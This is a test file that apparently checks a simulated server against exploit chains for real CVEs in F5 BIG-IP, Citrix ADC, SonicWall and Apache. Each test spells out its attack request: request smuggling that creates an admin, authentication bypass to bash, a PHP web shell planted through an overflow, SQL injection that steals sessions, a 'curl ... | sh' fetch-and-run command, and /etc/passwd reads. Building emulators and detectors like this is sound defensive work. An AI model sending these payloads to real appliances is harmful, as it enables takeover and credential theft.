/** Gateways and firewalls, step by step. */

import { expect, it } from 'vitest';
import { cookieOf, stranger, webMachine } from '../../../../test/support/http-visitor.ts';

const id = /uid=\d+\(/;
const machine = webMachine('ubuntu-web', ['f5-bigip', 'citrix-adc', 'sonicwall', 'apache-httpd']);

const basic = (login: string): Record<string, string> => ({
  Authorization: `Basic ${Buffer.from(login, 'latin1').toString('base64')}`,
});

it('F5 BIG-IP: a request within a request makes an administrator, who sets a password, logs in and runs bash (CVE-2023-46747)', () => {
  const visitor = stranger(machine);
  const login = (password: string) =>
    visitor.json('/mgmt/shared/authn/login', { username: 'mallory', password });
  expect(login('pa55').status).toBe(401);
  expect(
    visitor.send(
      'PATCH',
      '/mgmt/tm/auth/user/mallory',
      { ...basic('mallory:first'), 'Content-Type': 'application/json' },
      '{"password": "pa55"}',
    ).status,
  ).toBe(401);
  const form =
    '_timenow=a&_bufvalue=b&_bufvalue_before=&handler=%2Ftmui%2Fsystem%2Fuser%2Fcreate&name=mallory&name_before=&passwd=first&passwd_before=&finished=x';
  const inner = `\0\x08HTTP/1.1\0\0\x12/tmui/Control/form\0\0\0\t127.0.0.1\0\xff\xff\0\0P\0\0\x01\0\x0fTmui-Dubbuf\0\0\x0bBBBBBBBBBBB\0\0${form}`;
  const chunked = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
  const made = visitor.send(
    'POST',
    '/tmui/login.jsp',
    { 'Content-Type': 'application/x-www-form-urlencoded', 'Transfer-Encoding': 'chunked, chunked' },
    '',
    chunked,
  );
  expect(made.cves).toContain('CVE-2023-46747');
  expect(made.status).toBe(200);
  const patched = visitor.send(
    'PATCH',
    '/mgmt/tm/auth/user/mallory',
    { ...basic('mallory:first'), 'Content-Type': 'application/json' },
    '{"password": "pa55"}',
  );
  expect(patched.body).toMatch(/"kind":"tm:auth:user:userstate".*"encryptedPassword"/);
  const token = /"token":"([A-Z0-9]{26})"/.exec(login('pa55').body)?.[1] ?? '';
  expect(token).not.toBe('');
  const bash = (with_: string) =>
    visitor.json(
      '/mgmt/tm/util/bash',
      { command: 'run', utilCmdArgs: "-c 'id; uname -s'" },
      { 'X-F5-Auth-Token': with_ },
    );
  expect(bash('A'.repeat(26)).status).toBe(401);
  const ran = bash(token);
  expect(ran.body).toMatch(id);
  expect(ran.facts).toContainEqual(expect.objectContaining({ kind: 'command' }));
  // Another source has none of it.
  expect(
    stranger(machine).json('/mgmt/shared/authn/login', { username: 'mallory', password: 'pa55' }).status,
  ).not.toBe(200);
});

it('F5 BIG-IP: a login that names who vouches for it gets a token, and with it bash (CVE-2021-22986)', () => {
  const visitor = stranger(machine);
  const given = visitor.json('/mgmt/shared/authn/login', {
    username: 'admin',
    userReference: {},
    loginReference: { link: 'http://localhost/mgmt/shared/gossip' },
  });
  expect(given.cves).toContain('CVE-2021-22986');
  const token = /"token":"([A-Z0-9]{26})"/.exec(given.body)?.[1] ?? '';
  const ran = visitor.json(
    '/mgmt/tm/util/bash',
    { command: 'run', utilCmdArgs: '-c id' },
    { 'X-F5-Auth-Token': token },
  );
  expect(ran.body).toMatch(/"commandResult":"uid=\d/);
});

it('Citrix ADC: a report makes a session, the setup is forced, and files are downloaded (CVE-2020-8193)', () => {
  const visitor = stranger(machine);
  const report = (cookie = '') =>
    visitor.send(
      'POST',
      '/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&profile_code=default',
      {
        'Content-Type': 'application/xml',
        'X-NITRO-USER': 'a',
        'X-NITRO-PASS': 'b',
        ...(cookie === '' ? {} : { Cookie: cookie }),
      },
      '<appfwprofile><login></login></appfwprofile>',
    );
  const first = report();
  expect(first.cves).toContain('CVE-2020-8193');
  expect(first.status).toBe(406);
  const cookie = `SESSID=${cookieOf(first, 'SESSID')}; startupapp=neo`;
  expect(visitor.get('/menu/neo', { Cookie: cookie }).body).not.toContain('var rand');
  const setup = visitor.get('/menu/ss?sid=nsroot&username=nsroot&force_setup=1', { Cookie: cookie });
  expect(setup.headers).toMatch(/Location: \/menu\/neo/);
  const rand = /var rand = "(\d+)"/.exec(visitor.get('/menu/neo', { Cookie: cookie }).body)?.[1] ?? '';
  expect(rand).not.toBe('');
  report(cookie);
  const download = (key: string) =>
    visitor.send(
      'POST',
      '/rapi/filedownload?filter=path:%2Fetc%2Fpasswd',
      { Cookie: cookie, rand_key: key, 'Content-Type': 'application/xml' },
      '<clipermission></clipermission>',
    );
  expect(download('1').status).toBe(403);
  expect(download(rand).body).toContain('root:x:0:0');
});

it('Citrix ADC: what an overlong target runs writes a page that takes commands (CVE-2023-3519)', () => {
  const visitor = stranger(machine);
  const code = `${'A'.repeat(168)}%48%31%c0%90/bin/sh%00-c%00echo "<?php @system(\\$_POST['c']);?>" > /var/vpn/themes/a.php%00`;
  const sent = visitor.get(`/gwtest/formssso?event=start&target=${code.replaceAll(' ', '%20')}`);
  expect(sent.cves).toContain('CVE-2023-3519');
  expect(visitor.form('/vpn/themes/a.php', 'c=id').body).toMatch(id);
  expect(stranger(machine).form('/vpn/themes/a.php', 'c=id').body).not.toMatch(id);
});

it('SonicWall: sessions are read by SQL, and zeros are one (CVE-2021-20016, CVE-2024-53704)', () => {
  const visitor = stranger(machine);
  const probe = visitor.form(
    '/cgi-bin/supportInstaller',
    "fromEmailInvite=1&customerTID=unpossible'+UNION+SELECT+0,0,0,11132*379123,0,0,0,0--",
  );
  expect(probe.cves).toContain('CVE-2021-20016');
  expect(probe.body).toContain(String(11_132 * 379_123));
  const portal = (cookie: string) => visitor.get('/cgi-bin/portal', { Cookie: `swap=${cookie}` });
  const read = visitor.form(
    '/cgi-bin/supportInstaller',
    "fromEmailInvite=1&customerTID=x'+UNION+SELECT+0,0,sessionid,userName,0+FROM+Sessions--",
  );
  const session = /[0-9a-f]{32}/.exec(read.body)?.[0] ?? '';
  expect(session).not.toBe('');
  expect(portal('no').body).not.toContain('NetExtender');
  expect(portal(Buffer.from(session).toString('base64')).body).toContain('Virtual Office');

  const other = stranger(machine);
  const zeros = other.get('/cgi-bin/sslvpnclient?launchplatform=mac&neProto=3', {
    Cookie: 'swap=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=',
  });
  expect(zeros.cves).toContain('CVE-2024-53704');
  expect(zeros.body).toMatch(/userName = "\w+"/);
  expect(zeros.body).toMatch(/SessionId = [0-9a-f]{32};/);
});

it('SonicWall: an overlong query string runs what the path says; addresses are not taken for it (CVE-2021-20038)', () => {
  const visitor = stranger(machine);
  const overflow = visitor.get(`/%3bcurl%20http:%2f%2f192.0.2.9%2fa%7csh%3b?${'%08%b7%06%08'.repeat(64)}`);
  expect(overflow.cves).toContain('CVE-2021-20038');
  expect(overflow.facts).toContainEqual(
    expect.objectContaining({ kind: 'command', urls: ['http://192.0.2.9/a'] }),
  );
  expect(visitor.get(`/;jsessionid=1?${'a=b&'.repeat(100)}`).cves).toEqual([]);
});

it('Apache: an encoded question mark ends the path before the suffix of a rule (CVE-2024-38475)', () => {
  const file = stranger(machine).get('/etc/passwd%3f.1.1.1.1a-1.css');
  expect(file.cves).toContain('CVE-2024-38475');
  expect(file.body).toContain('root:x:0:0');
});
